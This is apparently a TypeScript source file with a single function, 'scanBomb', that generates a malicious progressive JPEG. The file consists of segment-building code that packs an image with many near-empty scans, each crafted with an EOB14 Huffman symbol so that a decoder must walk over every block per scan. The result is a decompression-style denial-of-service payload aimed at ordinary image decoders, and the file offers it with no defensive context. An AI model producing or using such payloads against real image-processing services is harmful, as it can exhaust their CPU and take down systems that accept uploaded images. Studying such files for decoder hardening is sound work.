// A progressive JPEG with as many scans as fit: each says in a few bytes that nothing changes, and costs a walk over all blocks.

const segment = (marker: number, ...bytes: number[]): number[] => [0xff, marker, (bytes.length + 2) >> 8, (bytes.length + 2) & 0xff, ...bytes];
/** One symbol, EOB14: a band ends for 16384 blocks and as many more as 14 bits say (T.81 §G.1.2.2); its code is the bit 0. */
const HUFFMAN_TABLE = segment(0xc4, 0x10, 1, ...Array.from({ length: 15 }, () => 0), 0xe0);
/** Spectral selection 1 to 63, first pass. */
const SCAN_HEADER = segment(0xda, 1, 1, 0x00, 1, 63, 0x00);

export function scanBomb(rows: number, columns: number, scans: number): Buffer {
  const blocks = Math.ceil(rows / 8) * Math.ceil(columns / 8);
  const bits = `0${'1'.repeat(14)}`.repeat(Math.ceil(blocks / 32767));
  const entropy = (bits.padEnd(Math.ceil(bits.length / 8) * 8, '1').match(/.{8}/g) ?? []).flatMap((byte) => (byte === '11111111' ? [0xff, 0] : [parseInt(byte, 2)]));
  const head = [
    0xff, 0xd8, ...segment(0xdb, 0, ...Array.from({ length: 64 }, () => 1)),
    ...segment(0xc2, 8, rows >> 8, rows & 0xff, columns >> 8, columns & 0xff, 1, 1, 0x11, 0), ...HUFFMAN_TABLE,
  ];
  const scan = Buffer.from([...SCAN_HEADER, ...entropy]);
  return Buffer.concat([Buffer.from(head), ...Array.from({ length: scans }, () => scan), Buffer.from([0xff, 0xd9])]);
}
